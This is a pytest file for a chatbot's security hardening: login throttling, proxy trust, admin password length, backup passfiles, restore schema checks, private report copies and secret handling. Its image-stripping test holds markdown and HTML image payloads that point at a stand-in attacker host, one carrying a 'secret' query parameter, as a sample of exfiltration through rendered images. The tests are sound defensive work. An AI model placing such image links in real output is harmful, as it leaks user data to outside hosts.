"""Issue 16's smaller pieces on their own (no server, no database): the login throttle on a fake clock, the
minimum admin password, the proxy options, image stripping, the restore's schema check, the backup passfile,
private report copies and the secret database URL."""

from __future__ import annotations

import os
import stat
import tempfile
import uuid
from datetime import UTC, datetime
from pathlib import Path

import pytest


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


# --- rate limits --------------------------------------------------------------------------------------------------


def test_only_the_open_routes_are_limited():
    from chatbot.api.rate_limit import route_group

    assert route_group("POST", "/v1/chat/completions") == "chat"
    assert route_group("GET", "/api/search") == "search"
    assert route_group("POST", "/api/feedback") == "feedback"
    assert route_group("POST", "/api/handoffs") == "handoffs"
    assert route_group("POST", "/gradio_api/queue/join") == "ui"
    for method, path in (("GET", "/healthz"), ("GET", "/metrics"), ("POST", "/admin/gradio_api/queue/join"),
                         ("GET", "/api/documents"), ("GET", "/v1/models")):
        assert route_group(method, path) is None


def test_forwarded_headers_are_honoured_only_from_configured_proxies(tmp_path):
    from chatbot.api.rate_limit import proxy_options
    from chatbot.settings import Settings

    assert proxy_options(Settings(home=tmp_path, _env_file=None)) == {"proxy_headers": False,
                                                                     "forwarded_allow_ips": None}
    behind = Settings(home=tmp_path, trusted_proxies=" 10.0.0.2, 192.168.0.0/16 ", _env_file=None)
    assert proxy_options(behind) == {"proxy_headers": True, "forwarded_allow_ips": "10.0.0.2,192.168.0.0/16"}


# --- logins -------------------------------------------------------------------------------------------------------


class FakeRecords:
    """`LoginRecords` in a dict on a fake clock (the real ones are in Postgres: tests/integration)."""

    def __init__(self, clock: Clock) -> None:
        self.clock, self.rows = clock, {}

    def _get(self, key, forget):
        count, last = self.rows.get(key, (0, 0.0))
        return None if count == 0 or self.clock.now - last > forget else (count, last)

    def read(self, client, user, forget):
        from chatbot.login_throttle import Failures

        found = [self._get(key, forget) for key in (("client", client), ("user", user))]
        return tuple(None if f is None else Failures(f[0], self.clock.now - f[1]) for f in found)

    def add_failure(self, client, user, forget):
        for key in (("client", client), ("user", user)):
            count = (self._get(key, forget) or (0, 0.0))[0]
            self.rows[key] = (count + 1, self.clock.now)

    def clear_client(self, client):
        self.rows.pop(("client", client), None)


def test_failed_logins_double_the_wait_per_client_and_per_user():
    from chatbot.login_throttle import LoginThrottle, LoginThrottled

    clock = Clock()
    throttle = LoginThrottle(FakeRecords(clock), free_failures=3, max_wait_s=5)
    for _ in range(3):
        throttle.check("1.2.3.4", "admin")
        throttle.failed("1.2.3.4", "admin")
    with pytest.raises(LoginThrottled) as first:
        throttle.check("1.2.3.4", "admin")
    assert first.value.retry_after == 1
    throttle.check("5.6.7.8", "someone")  # another client and name are not held
    clock.now += 1
    throttle.check("1.2.3.4", "admin")
    throttle.failed("1.2.3.4", "admin")
    with pytest.raises(LoginThrottled) as second:
        throttle.check("1.2.3.4", "admin")
    assert second.value.retry_after == 2
    for _ in range(5):
        throttle.failed("1.2.3.4", "admin")
    with pytest.raises(LoginThrottled) as capped:
        throttle.check("1.2.3.4", "admin")
    assert capped.value.retry_after == 5
    clock.now += 5
    throttle.succeeded("1.2.3.4")  # clears the client's record only
    clock.now += 3600
    throttle.check("1.2.3.4", "admin")  # an hour without failures forgets them


def test_a_user_names_failures_slow_only_clients_with_failures_of_their_own():
    """Issue 29, item 9: an attacker's guesses must not lock the admin out of a clean address."""
    from chatbot.login_throttle import LoginThrottle, LoginThrottled

    clock = Clock()
    throttle = LoginThrottle(FakeRecords(clock), free_failures=3, max_wait_s=300)
    for _ in range(8):  # the attacker: the user name's record reaches a 32 s wait
        throttle.failed("6.6.6.6", "admin")
    throttle.check("10.0.0.2", "admin")  # the admin, from a clean address, is not refused
    throttle.failed("10.0.0.3", "admin")  # another attacker's address, after one guess of its own
    with pytest.raises(LoginThrottled) as slowed:
        throttle.check("10.0.0.3", "admin")
    assert slowed.value.retry_after >= 30


def test_a_configured_admin_password_needs_twelve_characters(tmp_path):
    from pydantic import SecretStr

    from chatbot.credentials import AdminCredentials, WeakPassword
    from chatbot.settings import Settings

    with pytest.raises(WeakPassword, match="11 characters; it needs at least 12"):
        AdminCredentials.from_settings(Settings(home=tmp_path, admin_password=SecretStr("x" * 11), _env_file=None))
    assert AdminCredentials.from_settings(Settings(home=tmp_path, admin_password=SecretStr("x" * 12),
                                                   _env_file=None)).password == "x" * 12
    generated = AdminCredentials.from_settings(Settings(home=tmp_path, _env_file=None))
    assert generated.generated and len(generated.password) >= 12


# --- remote images ------------------------------------------------------------------------------------------------


def test_answers_and_questions_in_monitor_load_no_remote_image():
    from chatbot.ui.monitor_tab import conversation_messages

    message = {"question": "see ![x](https://evil.example/q.png)", "vote": None, "generator": "base", "seconds": 1.0,
               "answer": 'Reset it![1] ![pixel](https://evil.example/a.png?d=secret) <img src="https://evil.example">'
                         ' and ![ref][r]\n\n[r]: https://evil.example/r.png'}
    shown = conversation_messages([message])
    for item in shown:
        assert "![" not in item["content"] and "<img" not in item["content"].lower()
    assert shown[1]["content"].startswith("Reset it!\\[1]")  # still reads the same once rendered


# --- backups ------------------------------------------------------------------------------------------------------


def test_the_password_leaves_the_connection_string_for_a_private_passfile():
    from chatbot.storage.backup import passfile_env, split_password

    conninfo, password = split_password("postgresql://ragbot:p%3Aw%5Cd@db.internal:5433/ragbot?sslmode=require")
    assert password == "p:w\\d" and "p:w" not in conninfo and "password" not in conninfo
    assert "host=db.internal" in conninfo and "port=5433" in conninfo and "sslmode=require" in conninfo
    with passfile_env(password) as env:
        path = Path(env["PGPASSFILE"])
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert path.read_text() == "*:*:*:*:p\\:w\\\\d\n"
    assert not path.exists()
    with passfile_env(None) as env:
        assert env == {}


def test_a_restore_is_refused_for_another_ragbot_schema():
    from chatbot.storage import db
    from chatbot.storage.backup import BackupError, check_schema

    known = {p.name for p in db.migration_files()}
    source = Path("x.dump")
    check_schema(source, known, known)  # same version
    check_schema(source, known, set())  # into an empty database
    with pytest.raises(BackupError, match="not a ragbot backup"):
        check_schema(source, set(), known)
    with pytest.raises(BackupError, match="schema version 999, newer than this ragbot"):
        check_schema(source, known | {"999_future.sql"}, known)
    older = {name for name in known if name < "004"}
    with pytest.raises(BackupError, match="schema version 003 but the database is at"):
        check_schema(source, older, known)


# --- evaluation report copies -------------------------------------------------------------------------------------


def test_report_files_are_copied_to_a_private_folder_without_following_symlinks(tmp_path):
    from chatbot.ui import evaluation_tab
    from training.reports import Report

    folder = tmp_path / "reports" / "2x2-run"
    folder.mkdir(parents=True)
    (folder / "report.html").write_text("<html>report</html>")
    secret = tmp_path / "secret.txt"
    secret.write_text("not a report")
    (folder / "result.json").symlink_to(secret)
    report = Report("2x2-run", folder, {})

    copied = Path(evaluation_tab.servable(report, "report.html"))
    assert copied.read_text() == "<html>report</html>"
    assert stat.S_IMODE(copied.stat().st_mode) == 0o600
    private = copied.parent.parent
    assert stat.S_IMODE(private.stat().st_mode) == 0o700 and private.owner() == Path(tmp_path).owner()
    assert private.parent == Path(tempfile.gettempdir()) and private.name != "ragbot-reports"
    assert evaluation_tab.servable(report, "result.json") is None  # a symlink is not followed
    (folder / "report.html").write_text("<html>changed</html>")
    os.utime(folder / "report.html", (datetime.now(UTC).timestamp() + 5,) * 2)
    assert Path(evaluation_tab.servable(report, "report.html")).read_text() == "<html>changed</html>"


# --- settings -----------------------------------------------------------------------------------------------------


def test_the_database_url_is_a_secret(tmp_path):
    from chatbot.settings import Settings
    from chatbot.storage import db

    secret = "pw-" + uuid.uuid4().hex
    settings = Settings(home=tmp_path, database_url=f"postgresql://ragbot:{secret}@db/ragbot", _env_file=None)
    assert secret not in repr(settings) and secret not in str(settings.model_dump())
    assert db.database_url(settings) == f"postgresql://ragbot:{secret}@db/ragbot"
